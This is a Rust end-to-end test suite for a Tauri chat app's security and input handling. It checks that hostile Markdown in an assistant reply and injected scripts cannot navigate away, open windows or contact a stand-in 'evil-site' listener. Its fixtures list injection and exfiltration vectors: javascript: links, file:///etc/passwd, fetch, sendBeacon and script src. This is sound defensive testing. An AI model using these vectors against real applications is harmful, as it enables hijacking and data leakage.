//! The page cannot be left: hostile Markdown under a real mouse and real keys, in every window.

use std::io::Read;
use std::net::TcpListener;
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde_json::{Value, json};

use crate::driver::{App, Desktop, Look, patiently, patiently_or, settle};
use crate::steps::{keep, said};

/// How long a page needs to be left, if it can be.
const LEAVING: Duration = Duration::from_millis(400);

/// A site that writes down what it is asked for.
struct Site {
    url: String,
    asked: Arc<Mutex<Vec<String>>>,
}

impl Site {
    fn new() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        // Another program of this machine may ask at this port as well, but for nothing of this name.
        let url = format!("http://{}/evil-site/", listener.local_addr().unwrap());
        let asked = Arc::new(Mutex::new(Vec::new()));
        let written = Arc::clone(&asked);
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let (mut stream, written) = (stream.unwrap(), Arc::clone(&written));
                // By a thread of its own: who connects and says nothing keeps nobody else from being heard.
                std::thread::spawn(move || {
                    let mut request = [0; 1024];
                    let length = stream.read(&mut request).unwrap_or_default();
                    let request = String::from_utf8_lossy(&request[..length]).into_owned();
                    written.lock().unwrap().extend(request.contains("evil-site").then_some(request));
                });
            }
        });
        Self { url, asked }
    }

    fn asked(&self) -> Vec<String> {
        self.asked.lock().unwrap().clone()
    }
}

/// A program in the browser's place, which writes down what it is to open. Gives its path, and that of what it writes.
fn opener(home: &Path) -> (String, std::path::PathBuf) {
    use std::os::unix::fs::PermissionsExt;
    let (program, opened) = (home.join("opener"), home.join("opened"));
    std::fs::write(&program, format!("#!/bin/sh\nprintf '%s\\n' \"$@\" >>'{}'\n", opened.display())).unwrap();
    std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
    (program.display().to_string(), opened)
}

/// The main window, under a real mouse and real keys.
struct Hand<'a> {
    app: &'a App,
    window: String,
}

impl<'a> Hand<'a> {
    fn new(app: &'a App) -> Self {
        let mut window = String::new();
        patiently("the window is on the screen", || {
            let found = xdotool(app, &["search", "--onlyvisible", "--name", "^HiveMind$"]);
            found.lines().next().unwrap_or_default().clone_into(&mut window);
            !window.is_empty()
        });
        Self { app, window }
    }

    fn press(&self, keys: &str) {
        xdotool(self.app, &["windowfocus", "--sync", &self.window, "key", "--clearmodifiers", keys]);
    }

    /// Moves to the middle of what a selector finds.
    fn to(&self, selector: &str) {
        let body = "const found = document.querySelector(arguments[0]);
            found.scrollIntoView({ block: 'center' });
            const box = found.getClientRects()[0];
            return [box.left + Math.min(box.width / 2, 40), box.top + box.height / 2].map(Math.round)";
        let place = self.app.script_with(body, &json!([selector]));
        let [x, y] = [&place[0], &place[1]].map(|at| at.as_f64().unwrap().round().to_string());
        xdotool(self.app, &["mousemove", "--window", &self.window, &x, &y]);
    }

    fn click(&self, selector: &str, button: &str, held: Option<&str>) {
        self.to(selector);
        match held {
            None => xdotool(self.app, &["click", button]),
            Some(key) => xdotool(self.app, &["keydown", key, "click", button, "keyup", key]),
        };
    }
}

fn xdotool(app: &App, arguments: &[&str]) -> String {
    let mut command = Command::new("xdotool");
    command.args(arguments).env("DISPLAY", &app.desktop.display).stderr(Stdio::null());
    String::from_utf8(command.output().expect("xdotool is installed").stdout).unwrap()
}

/// Whether the page is the one that was marked, and shows no other.
fn stays(app: &App) -> Value {
    app.script("return [window.marked, location.protocol, location.host, window.evil]")
}

fn mark(app: &App) {
    app.script("window.marked = true");
}

#[track_caller]
fn has_stayed(app: &App, site: &Site, windows: usize, what: &str) {
    std::thread::sleep(LEAVING);
    assert_eq!(stays(app), json!([true, "tauri:", "localhost", null]), "{what}");
    assert_eq!(site.asked(), Vec::<String>::new(), "{what}");
    assert_eq!(app.windows_seen(), windows, "{what}");
}

/// Shows a conversation.
fn turn_to(app: &App, title: &str) {
    let body = "const entry = document.querySelector(`.list [title='${arguments[0]}']`);
        entry?.click();
        return entry !== null";
    patiently(title, || app.script_with(body, &json!([title])) == true);
}

fn dialog(app: &App) -> String {
    app.text("dialog[open]")
}

#[test]
fn no_click_and_no_key_leads_out_of_the_app() {
    let home = tempfile::tempdir().unwrap();
    let folder = home.path().join("studio");
    settle(&folder, "Studio");
    let site = Site::new();
    let (program, opened) = opener(home.path());
    let app = App::start_with(Desktop::new(Look::Light), &folder, &[("HIVEMIND_OPENER", &program)]);
    let evil = format!(
        "[a link]({url}a)\n\n![a picture]({url}picture.png)\n\n<a href=\"{url}html\" target=\"_blank\" download>html</a> \
         <meta http-equiv=\"refresh\" content=\"0;url={url}meta\"><form action=\"{url}form\"><button>form</button></form> \
         <iframe src=\"{url}frame\"></iframe><base href=\"{url}\">\n\n[script](javascript:window.evil=1) [file](file:///etc/passwd) \
         [data](data:text/html,evil) [own](tauri://localhost/index.html?evil) [relative](/evil)",
        url = site.url
    );
    keep(&app, "evil", "Evil", &json!([said("user", "Say something evil."), said("assistant", &evil)]));
    app.show_main();
    turn_to(&app, "Evil");
    patiently("it is shown", || app.text(".body").contains("a picture"));
    mark(&app);
    let hand = Hand::new(&app);
    let windows = app.windows_seen();
    has_stayed(&app, &site, windows, "showing it");

    // Every click on a link asks.
    let asks = |what: &str| {
        patiently(&format!("{what} asks"), || dialog(&app).contains("in your browser?"));
        has_stayed(&app, &site, windows, what);
        assert!(dialog(&app).contains(&format!("{}a", site.url)), "{what}: {}", dialog(&app));
        hand.press("Escape");
        patiently("the question is gone", || dialog(&app).is_empty());
    };
    for (button, held) in [
        ("1", None),
        ("2", None),
        ("1", Some("ctrl")),
        ("1", Some("shift")),
        ("1", Some("alt")),
        ("2", Some("ctrl")),
        ("2", Some("shift")),
    ] {
        hand.click(".body a", button, held);
        asks(&format!("button {button} with {held:?}"));
    }
    app.script("document.querySelector('.body a').focus()");
    hand.press("Return");
    asks("Enter");
    for keys in ["ctrl+Return", "shift+Return", "alt+Return"] {
        app.script("document.querySelector('.body a').focus()");
        hand.press(keys);
        has_stayed(&app, &site, windows, keys);
        hand.press("Escape");
        patiently("no question is left", || dialog(&app).is_empty());
    }
    // Pictures, and what is no web address, are no more than that, whichever element they became.
    let number = "const links = [...document.querySelectorAll('.body a')];
        links.forEach((link, index) => (link.id = `link-${index}`));
        return links.length";
    for index in 0..app.script(number).as_u64().unwrap() {
        for button in ["1", "2"] {
            hand.click(&format!("#link-{index}"), button, None);
            has_stayed(&app, &site, windows, &format!("link {index}, button {button}"));
            hand.press("Escape");
            patiently("no question is left", || dialog(&app).is_empty());
        }
    }
    by_other_ways(&hand, &site, windows);
    assert_eq!(app.script("return document.querySelector('.field textarea').value"), "");
    assert!(!opened.exists(), "{:?}", std::fs::read_to_string(&opened));

    when_its_owner_says_so(&hand, &site, windows, &opened);
    app.quit();
}

/// The side buttons of a mouse, keys of browsers, and a link dragged onto the page and into the field.
#[track_caller]
fn by_other_ways(hand: &Hand, site: &Site, windows: usize) {
    let app = hand.app;
    app.script("location.hash = '#machines'; history.replaceState(null, '', '#chat')");
    for button in ["8", "9"] {
        hand.click(".messages", button, None);
        has_stayed(app, site, windows, &format!("button {button}"));
    }
    for keys in [
        "F5",
        "ctrl+F5",
        "ctrl+r",
        "ctrl+shift+r",
        "alt+Left",
        "alt+Right",
        "BackSpace",
        "XF86Back",
        "XF86Forward",
        "XF86Reload",
        "ctrl+o",
        "ctrl+t",
        "ctrl+u",
        "ctrl+s",
        "ctrl+p",
        "ctrl+l",
        "F7",
        "F11",
        "F12",
    ] {
        app.script("document.activeElement?.blur()");
        hand.press(keys);
        has_stayed(app, site, windows, keys);
    }
    for to in [".messages", ".field textarea"] {
        hand.to(".body a");
        xdotool(app, &["mousedown", "1", "mousemove_relative", "6", "3", "mousemove_relative", "6", "3"]);
        hand.to(to);
        xdotool(app, &["mouseup", "1"]);
        has_stayed(app, site, windows, &format!("a link dragged to {to}"));
        hand.press("Escape");
    }
}

/// A link is opened when its owner says so, and only then; a site that is allowed for good, without a question.
#[track_caller]
fn when_its_owner_says_so(hand: &Hand, site: &Site, windows: usize, opened: &Path) {
    let app = hand.app;
    hand.click(".body a", "1", None);
    patiently("it asks", || dialog(app).contains("in your browser?"));
    app.picture("link");
    assert_eq!(app.script("return document.activeElement.innerText"), "Open");
    hand.press("Return");
    let url = format!("{}a\n", site.url);
    patiently("it is opened", || std::fs::read_to_string(opened).is_ok_and(|links| links == url));
    has_stayed(app, site, windows, "opening it");
    // Allowed for good, the site opens without a question.
    hand.click(".body a", "1", None);
    patiently("it asks again", || dialog(app).contains("in your browser?"));
    app.script("document.querySelector('dialog[open] input').click()");
    app.click("Open");
    patiently("it is opened", || std::fs::read_to_string(opened).is_ok_and(|links| links == url.repeat(2)));
    hand.click(".body a", "2", None);
    patiently("it is opened at once", || std::fs::read_to_string(opened).is_ok_and(|links| links == url.repeat(3)));
    assert_eq!(dialog(app), "");
    has_stayed(app, site, windows, "opening it at once");
}

#[test]
fn no_script_leads_out_of_any_window() {
    let home = tempfile::tempdir().unwrap();
    settle(home.path(), "Studio");
    let site = Site::new();
    let app = App::start(Desktop::new(Look::Light), home.path());
    mark(&app);
    app.tray().click("Settings…");
    app.script("history.back(); history.go(-9)");
    has_stayed(&app, &site, app.windows_seen(), "back");
    leaves_nowhere(&app, &site);
    // A frame may be empty at first, but no window stays so.
    app.script("location.href = 'about:srcdoc'");
    patiently("the window is left for nothing", || stays(&app)[0] != true);
    patiently("it is back", || app.script("return document.querySelector('nav') !== null") == true);
    app.show_popover();
    leaves_nowhere(&app, &site);
    app.show_main();
    let desktop = app.quit();
    // A node that cannot start has a window, too.
    std::fs::write(home.path().join("config.toml"), "shaer = true\n").unwrap();
    let app = App::open(desktop, home.path(), &[]);
    patiently("it says why", || app.text("main").contains("unknown field `shaer`"));
    leaves_nowhere(&app, &site);
    // The site would have noticed.
    let _ = reqwest::blocking::get(&site.url);
    patiently("the site is asked", || site.asked().len() == 1);
}

/// Ways to leave a page, each of which would end those before it.
const WAYS_OUT: [&str; 14] = [
    "location.href = url",
    "location.replace(url)",
    "location.href = 'file:///etc/passwd'",
    "location.href = 'data:text/html,evil'",
    "location.href = 'about:blank'",
    "location.href = 'tauri://evil.example/'",
    "location.href = 'http://tauri.localhost/'",
    "window.open(url)",
    "window.open(url, '_self')",
    "window.open('about:blank')",
    "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${url}` }))",
    "const form = document.body.appendChild(Object.assign(document.createElement('form'), { action: url, method: 'post' }));
        form.submit()",
    "const link = document.body.appendChild(Object.assign(document.createElement('a'), { href: url, download: 'evil' }));
        link.dispatchEvent(new MouseEvent('click', { bubbles: false }))",
    "const link = document.createElement('a'); link.href = url; link.target = '_blank'; link.click()",
];

/// Ways to ask a site for something, none of which keeps another from it.
const WAYS_TO_ASK: [&str; 9] = [
    "document.body.append(Object.assign(document.createElement('iframe'), { src: url }))",
    "document.body.append(Object.assign(document.createElement('img'), { src: url }))",
    "document.body.append(Object.assign(document.createElement('object'), { data: url }))",
    "fetch(url).catch(() => {})",
    "navigator.sendBeacon(url, 'evil')",
    "try { new WebSocket(url.replace('http', 'ws')) } catch {}",
    "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: url }))",
    "document.head.append(Object.assign(document.createElement('script'), { src: url }))",
    "const style = document.head.appendChild(document.createElement('style'));
        style.textContent = `body { background: url(${url}) } @import '${url}'`",
];

/// What a page could do if it were taken over, and what the window then still refuses.
#[track_caller]
fn leaves_nowhere(app: &App, site: &Site) {
    mark(app);
    let windows = app.windows_seen();
    let attempt = |way: &str, url: &str| {
        app.script_with(&format!("const url = arguments[0]; {way}"), &json!([url]));
    };
    for way in WAYS_OUT {
        attempt(way, &site.url);
        has_stayed(app, site, windows, way);
    }
    // At once; the address that the site was asked for would tell by which.
    for (number, way) in WAYS_TO_ASK.into_iter().enumerate() {
        attempt(way, &format!("{}way-{number}", site.url));
    }
    has_stayed(app, site, windows, "a way to ask the site");
}

#[test]
fn menus_are_the_apps_own() {
    let home = tempfile::tempdir().unwrap();
    settle(home.path(), "Studio");
    let app = App::start(Desktop::new(Look::Light), home.path());
    keep(
        &app,
        "lisbon",
        "Lisbon",
        &json!([said("user", "Where?"), said("assistant", "See [the map](https://example.com/map).")]),
    );
    app.show_main();
    turn_to(&app, "Lisbon");
    patiently("it is open", || app.text(".body").contains("the map"));
    let hand = Hand::new(&app);
    let windows = app.windows_seen();
    let entries = || {
        app.script(
            "return [...document.querySelectorAll('[role=menuitem]')].map((entry) => entry.firstChild.data.trim())",
        )
    };

    // Nothing where there is nothing to do: neither the app's menu nor the browser's, which would be a window of its own.
    hand.click(".list h2", "3", None);
    std::thread::sleep(LEAVING);
    assert_eq!((entries(), app.windows_seen()), (json!([]), windows));
    hand.click("header h1", "3", None);
    patiently("a chat has a menu", || entries() == json!(["Export", "Copy Chat"]));
    hand.press("Escape");
    patiently("it is closed", || entries() == json!([]));
    hand.click(".body a", "3", None);
    patiently("a link has a menu", || entries()[0] == "Open Link…" && entries()[1] == "Copy Link");
    app.picture("menu");
    hand.press("Escape");
    patiently("it is closed", || entries() == json!([]));

    // What a menu copies can be pasted: a link, and what is selected, which stays selected.
    let field = || app.script("return document.querySelector('.field textarea').value");
    let pasted = |what: &str| {
        hand.click(".field textarea", "1", None);
        hand.press("ctrl+a");
        hand.press("ctrl+v");
        patiently(&format!("{what:?} is pasted"), || field() == what);
    };
    hand.click(".body a", "3", None);
    patiently("a link has a menu", || entries()[0] == "Open Link…" && entries()[1] == "Copy Link");
    // A click by a script is no click of a person's, and reaches no clipboard.
    hand.click("[role=menuitem]:nth-child(2)", "1", None);
    pasted("https://example.com/map");
    app.script("getSelection().selectAllChildren(document.querySelector('.messages p'))");
    hand.click(".messages p", "3", None);
    patiently("a selection has a menu", || entries()[0] == "Copy");
    hand.click("[role=menuitem]", "1", None);
    patiently("it is closed", || entries() == json!([]));
    assert_eq!(app.script("return getSelection().toString().trim()"), "Where?");
    pasted("Where?");
    hand.press("ctrl+a");
    hand.press("BackSpace");

    // What is typed is cut, and pasted again, by the menu and by the keyboard alone.
    hand.click(".field textarea", "1", None);
    hand.press("h");
    hand.press("i");
    hand.press("ctrl+a");
    hand.click(".field textarea", "3", None);
    patiently("a field has a menu", || entries() == json!(["Cut", "Copy", "Paste", "Select All"]));
    hand.click("[role=menuitem]", "1", None);
    patiently("it is cut", || field() == "");
    hand.press("shift+F10");
    patiently("a key opens it", || entries() == json!(["Cut", "Copy", "Paste", "Select All"]));
    // Nothing is selected, so that the first that can be chosen is Paste.
    hand.press("Return");
    patiently("it is pasted", || field() == "hi");
    app.quit();
}

#[test]
fn shortcuts_work_on_every_page_and_the_rail_in_every_window() {
    let home = tempfile::tempdir().unwrap();
    settle(home.path(), "Studio");
    let app = App::start(Desktop::new(Look::Light), home.path());
    let hand = Hand::new(&app);
    hand.press("ctrl+slash");
    patiently("the list", || dialog(&app).contains("Ctrl+N"));
    app.picture("shortcuts");
    hand.press("Escape");
    patiently("it is closed", || dialog(&app).is_empty());
    for (keys, shown) in [("ctrl+2", "Machines"), ("ctrl+3", "Models"), ("ctrl+comma", "Settings"), ("ctrl+1", "Chat")]
    {
        hand.press(keys);
        let current = || app.text("nav [aria-current]");
        patiently(keys, || current().starts_with(shown));
    }
    let focused = || app.script("return document.activeElement.matches('.field textarea')");
    hand.press("ctrl+2");
    hand.press("ctrl+n");
    patiently("a new chat, and its field", || focused() == true && app.text("h1") == "New chat");
    hand.press("ctrl+2");
    hand.press("ctrl+f");
    patiently("the search", || app.script("return document.activeElement.type") == "search");
    // From the start of the page, the field is one Tab and Enter away, and the rail is one stop.
    app.show_main();
    let start = "const first = document.querySelector('button, a, input, select, textarea, [tabindex]');
        first.focus();
        return first.textContent";
    let here = || app.script("return document.activeElement.textContent.trim()");
    assert_eq!(app.script(start), "Skip to message");
    hand.press("Return");
    patiently("the field", || focused() == true);
    app.script(start);
    hand.press("Tab");
    patiently_or(|| here().to_string(), || here() == "Chat");
    hand.press("Down");
    patiently("its next entry", || here() == "Machines");
    hand.press("Tab");
    assert_eq!(app.script("return document.activeElement.closest('nav') === null"), true);

    // However narrow the window, the rail shows all it has.
    for (wide, high) in [(320_u64, 480_u64), (720, 480), (1000, 700)] {
        xdotool(&app, &["windowsize", "--sync", &hand.window, &wide.to_string(), &high.to_string()]);
        patiently("the window has its size", || app.script("return innerWidth") == wide);
        let cut = "return [...document.querySelectorAll('nav button, nav span')].filter((part) => {
            const box = part.getBoundingClientRect();
            return part.scrollWidth > part.clientWidth + 1 && part.tagName !== 'BUTTON'
                || box.left < 0 || box.top < 0 || box.right > innerWidth || box.bottom > innerHeight;
        }).map((part) => part.innerText)";
        assert_eq!(app.script(cut), json!([]), "{wide} × {high}");
        app.picture(&format!("rail-{wide}"));
    }
    app.quit();
}

#[test]
fn text_grows_and_is_as_large_when_the_app_is_opened_again() {
    let home = tempfile::tempdir().unwrap();
    settle(home.path(), "Studio");
    let app = App::start(Desktop::new(Look::Light), home.path());
    let hand = Hand::new(&app);
    let width = || app.script("return innerWidth").as_f64().unwrap();
    let usual = width();
    for _ in 0..3 {
        hand.press("ctrl+plus");
    }
    patiently("it grows", || (usual / width() - 1.5).abs() < 0.02);
    app.picture("large-text");
    app.show_main();
    patiently("it stays", || (usual / width() - 1.5).abs() < 0.02);
    let desktop = app.quit();
    let app = App::start(desktop, home.path());
    let width = || app.script("return innerWidth").as_f64().unwrap();
    patiently("it is remembered", || (usual / width() - 1.5).abs() < 0.02);
    let hand = Hand::new(&app);
    hand.press("ctrl+0");
    patiently("it is as before", || (usual - width()).abs() < 1.0);
    hand.press("ctrl+w");
    patiently("the window is closed", || app.windows_seen() == 0);
    app.quit();
}
